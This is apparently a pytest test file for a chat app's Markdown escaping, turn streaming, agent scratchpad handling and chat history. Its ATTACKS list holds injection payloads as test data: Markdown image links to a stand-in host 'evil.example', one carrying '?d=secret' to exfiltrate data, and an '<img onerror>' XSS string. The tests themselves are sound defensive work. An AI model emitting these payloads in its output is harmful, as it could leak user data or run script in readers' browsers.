"""Where the app meets the chains, agents and memory: what a user of the Chat page sees and
what is saved when a turn streams, fails, is stopped or cites odd documents."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentkit.app.render import escaped_stream, safe_markdown
from agentkit.core.runnable import Runnable
from agentkit.llms import FakeListModel, user
from agentkit.llms.messages import Message
from agentkit.memory import InMemoryHistoryStore
from agentkit.workspace.chains import ChainSettings, HistoryMemory, build_chain
from agentkit.workspace.turns import Turn
from tests.app import fixtures

# --- model text rendered as Markdown never fetches an image or passes raw HTML ------------

ATTACKS = [
    "see `![x](https://evil.example/p.png?d=secret)",  # an unclosed code span
    "\\![x](https://evil.example/p.png)",  # the model's own backslash
    "\\<img src=x onerror=alert(1)>",
    "```x`\n![x](https://evil.example/p.png)\n",  # not a fence: its info string has a `
    "    ```\n![x](https://evil.example/p.png)\n",  # not a fence: indented 4 spaces
    "text\n    ```\n    ![x](https://evil.example/p.png)\n",
    "- a\n  ```\n![x](https://evil.example/p.png)\n",  # the list (and its fence) ended
    "`\n`![a](u)`",  # a code span may span lines
    "   `````\n`````\n\n!<b>[x](y)",  # an indented fence closed at column 0
    "~~~\n```\n~~~\n![a](u)",  # a tilde fence
    "```x`y\n`![a](u)`",  # not a fence; its backticks must not pair with the next line's
]


def _rendered_dangers(markdown: str) -> list[str]:
    markdown_it = pytest.importorskip("markdown_it")
    found = []
    stack = list(markdown_it.MarkdownIt("commonmark").parse(markdown))
    while stack:
        token = stack.pop()
        if token.type in ("image", "html_inline", "html_block", "link_open"):
            found.append(f"{token.type}: {token.content!r}")
        stack.extend(token.children or [])
    return found


@pytest.mark.parametrize("text", ATTACKS)
def test_escaped_model_text_renders_no_image_or_html(text: str) -> None:
    assert _rendered_dangers(safe_markdown(text)) == []


PIECES = ["`", "``", "```", "![a](u)", "\\", "<b>", "\n", "  ", "    ", "\t", "x", "- ", "1. ", "!"]
PIECES += ["[a](http://u)", "<http://v>", "[", "]", "(", ")", "[r]: /x"]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=24), st.integers(1, 5))
def test_no_image_or_html_whatever_the_text_and_chunking(pieces: list[str], size: int) -> None:
    text = "".join(pieces)
    chunks = [text[i : i + size] for i in range(0, len(text), size)]
    streamed = "".join(escaped_stream(chunks))
    assert streamed == safe_markdown(text)
    assert _rendered_dangers(streamed) == []


def test_code_still_shows_as_written() -> None:
    text = "Use `a < b` and\n```python\nif x < 3 and y != 2:\n    print('$')\n```\n"
    assert safe_markdown(text) == text
    listed = "1. step\n   ```\n   a < b\n   ```\n"  # fence lines move to column 0
    assert safe_markdown(listed) == "1. step\n```\n   a < b\n```\n"
    not_closed = "```\n``` not a close\n  ```  \n![a](u)"
    assert safe_markdown(not_closed) == "```\n``` not a close\n```  \n\\!\\[a\\](u)"


# --- a turn always ends, whatever its chain returns ---------------------------------------


class _Returns(Runnable[Any, Any]):
    def __init__(self, output: Any) -> None:
        self.output = output

    def invoke(self, input: Any, config: Any = None) -> Any:
        return self.output


def test_a_turn_ends_when_its_sources_have_odd_metadata() -> None:
    chain = _Returns({"answer": "Yes.", "sources": [{"source": "a.md", "metadata": "web"}]})
    turn = Turn(chain, "q").start()
    result = turn.wait(5)
    assert result is not None and result.error is None and result.answer == "Yes."
    assert [s["source"] for s in result.sources] == ["a.md"]
    assert [e.kind for e in turn.events()][-1] == "done"


def test_a_turn_ends_with_an_error_when_reading_its_output_fails(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from agentkit.workspace import turns

    def broken(output: Any) -> list[dict[str, Any]]:
        raise ValueError("unreadable output")

    monkeypatch.setattr(turns, "sources_of", broken)
    turn = Turn(_Returns({"answer": "Yes."}), "q").start()
    result = turn.wait(5)
    assert result is not None and result.answer == "Yes."
    assert result.error is not None and "unreadable output" in result.error
    assert list(turn.tokens()) == ["Yes."]


# --- the agent: the live answer is the answer that is saved --------------------------------


def test_agent_turn_streams_only_its_answer_not_its_scratchpad() -> None:
    chain = build_chain(ChainSettings("agent"), FakeListModel(fixtures.REACT_REPLIES))
    turn = Turn(chain, "What is 25% of 300?").start()
    live = "".join(turn.tokens())
    result = turn.wait(5)
    assert result is not None and result.answer == "25% of 300 is 75."
    assert live == result.answer  # what the user watched is what the chat shows on rerun
    assert [s["tool"] for s in result.steps] == ["calculator"]


def test_stopping_an_agent_mid_thought_saves_no_scratchpad() -> None:
    model = FakeListModel([fixtures.REACT_REPLIES[0]] * 6, token_latency=0.02)
    turn = Turn(build_chain(ChainSettings("agent"), model), "q").start()
    for step in turn.events():
        if step.kind == "step":
            turn.cancel()
            break
    result = turn.wait(5)
    assert result is not None and result.stopped and result.error is None
    assert "Action" not in result.answer and "Thought" not in result.answer
    assert len(model.calls) < 6


# --- a failed turn is shown and saved, but not fed back to the model as its reply ----------


class _DiesMidStream(FakeListModel):
    def stream_chunks(self, messages: Any, params: Any = None) -> Any:
        yield Message("assistant", "The capital is ")
        raise ConnectionError("model server went away")


def test_a_failed_turn_is_saved_but_not_shown_to_the_model_again(tmp_path: Any) -> None:
    from agentkit.workspace.sessions import ChatSessions

    sessions = ChatSessions(tmp_path / "h.sqlite")
    failing = build_chain(
        ChainSettings("chat"), _DiesMidStream(["x"]), memory=HistoryMemory(sessions.store)
    )
    turn = Turn(failing, "Capital of France?", "s", sessions.history("s")).start()
    assert "".join(turn.tokens()) == "The capital is "
    result = turn.wait(5)
    assert result is not None and result.error is not None and "went away" in result.error
    sessions.record("s", "Capital of France?", result)
    entries = sessions.entries("s")
    assert entries[1].content == "The capital is" and "went away" in entries[1].metadata["error"]

    model = FakeListModel(["Paris."])
    chain = build_chain(ChainSettings("chat"), model, memory=HistoryMemory(sessions.store))
    again = Turn(chain, "Capital of France?", "s", sessions.history("s")).start().wait(5)
    assert again is not None and again.error is None and again.answer == "Paris."
    seen = [(m.role, m.content) for m in model.calls[0] if m.role != "system"]
    assert seen == [("user", "Capital of France?")]


def test_history_memory_keeps_stopped_turns_and_drops_failed_ones() -> None:
    store = InMemoryHistoryStore()
    failed = Message("assistant", "", metadata={"error": "TimeoutError: slow"})
    stopped = Message("assistant", "Half an", metadata={"stopped": True, "error": None})
    store.append("s", [user("q1"), Message("assistant", "a1")])
    store.append("s", [user("q2"), failed])
    store.append("s", [user("q3"), stopped])
    memory = HistoryMemory(store, turns=2)
    assert [m.content for m in memory.load("s")] == ["q1", "a1", "q3", "Half an"]
